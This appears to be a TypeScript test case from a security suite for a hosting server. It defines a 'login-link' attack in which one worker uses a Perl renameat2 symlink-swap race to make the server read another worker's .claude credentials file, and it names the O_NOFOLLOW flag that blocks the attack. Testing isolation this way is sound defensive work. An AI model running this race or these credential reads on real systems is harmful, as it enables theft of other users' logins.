import { readFile } from 'node:fs/promises'
import { join } from 'node:path'
import type { Attack } from '../stage/attack.ts'
import { loginOf, loginFileOf } from '../stage/logins.ts'

/**
 * Exchanges its directory of logins with a link to that of the other worker, each time in one step
 * of the file system, and touches a file so that the server looks.
 */
const exchange = `
  use strict; use Config;
  my ($here, $link, $touched) = @ARGV;
  my $renameat2 = $Config{archname} =~ /aarch64|arm64/ ? 276 : 316;
  my $end = time + 8;
  for (my $round = 0; time < $end; $round++) {
    utime(undef, undef, $touched) if $round % 64 == 0;
    syscall($renameat2, -100, $here, -100, $link, 2) == 0 or die "exchange: $!";
  }`

export const loginLink: Attack = {
  id: 'login-link',
  from: 'a worker',
  tries: "puts a link to another worker's logins in the place of its own, while the server reads",
  world: 'logins',
  disarmedBy: [
    {
      file: 'src/hosting/untrusted-file.ts',
      find: 'constants.O_RDONLY | constants.O_DIRECTORY | constants.O_NOFOLLOW',
      replace: 'constants.O_RDONLY | constants.O_DIRECTORY',
    },
  ],
  async run({ attacker, victim, setup, until }) {
    await until('both workers hold their logins', async () => {
      const texts = await Promise.all(
        [attacker, victim].map((worker) => worker.sh('cat "$HOME/.claude/.credentials.json"')),
      )
      return texts.every(({ code }) => code === 0) ? true : null
    })
    await attacker.output(
      'cd "$HOME" && ln -sfn ../../worker-2/home/.claude link && ' +
        'perl - .claude link .claude/.credentials.json',
      exchange,
    )
    const [own, other] = [loginOf(attacker.instance), loginOf(victim.instance)]
    const file = await readFile(join(setup.config, loginFileOf(attacker.instance)), 'utf8')
    if (!file.includes(own) && !file.includes(other))
      throw new Error(`the server's copy holds no known login: ${file}`)
    return file.includes(other) ? [`the login of ${victim.instance}`] : []
  },
}
